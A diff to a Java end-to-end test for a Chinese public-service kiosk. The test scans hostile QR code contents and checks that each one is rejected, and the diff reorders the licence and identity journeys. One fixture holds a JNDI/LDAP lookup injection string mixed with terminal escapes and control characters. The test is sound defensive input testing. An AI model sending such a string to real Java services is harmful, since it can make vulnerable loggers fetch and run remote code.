@@ -12,7 +12,7 @@ import org.yijianshi.kiosk.device.simulator.SimulatedScanner;
 import org.yijianshi.kiosk.dock.Dock;
 import org.yijianshi.kiosk.run.Simulators;
 
-/** Codes that mean harm, before the scanner of every page that waits for one, in real Chromium. */
+/** Codes that mean harm, before the scanner of pages that find, name a person and name a business, in real Chromium. */
 class HostileCodeJourneyTest {
     private static final String FOREIGN = "这不是这里要的二维码";
     private static final String NOT_TEXT = "这个码里不是文字，这里用不上。请换一个码。";
@@ -34,7 +34,7 @@ class HostileCodeJourneyTest {
             new Hostile(new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0}, NOT_TEXT),
             Hostile.text("\u001B[2J\u0007\u202E${jndi:ldap://example.invalid/x}\u0000", FOREIGN),
             Hostile.text("A".repeat(4097), TOO_LONG),
-            Hostile.text("A".repeat(4096), FOREIGN));
+            Hostile.text("A".repeat(4093), FOREIGN));
 
     @TempDir
     private Path directory;
@@ -54,29 +54,23 @@ class HostileCodeJourneyTest {
             kiosk.press("查好了");
             dock.takeFromScanner();
 
-            kiosk.press("我来签字");
-            kiosk.press("扫单子上的二维码");
-            showsAll(kiosk, "signing");
-            dock.scan("K7M4PX2A");
-            kiosk.awaitTrue("the code was taken", () -> !kiosk.title().contains("请出示"));
-            kiosk.picture("signing-taken");
-            dock.takeFromScanner();
-            kiosk.page().reload();
-
-            kiosk.press("亮码办理");
-            showsAll(kiosk, "identity");
-            dock.scanIdentity("mother", false);
-            kiosk.reads("亮码得到的身份信息");
-            kiosk.press("不办了");
-            kiosk.sees("您的信息已清除");
-            kiosk.press("回到首页");
-            dock.takeFromScanner();
-
             new Citizen(kiosk).begins("eatery-owner", "招了新员工", "我替单位来办");
             kiosk.press("出示电子营业执照");
             showsAll(kiosk, "licence");
             dock.scanLicence("91411199MAEDEMA20U", false);
             kiosk.sees("新员工都是内地居民吗");
+            kiosk.press("其他情况，找工作人员");
+            kiosk.press("不办了，清除信息");
+            kiosk.sees("您的信息已清除");
+            kiosk.lift();
+            kiosk.press("回到首页");
+            dock.takeFromScanner();
+
+            kiosk.press("没带证件");
+            kiosk.press("亮手机上的身份码");
+            showsAll(kiosk, "identity");
+            dock.scanIdentity("mother", false);
+            kiosk.reads("亮码得到的身份信息");
         }
     }
 
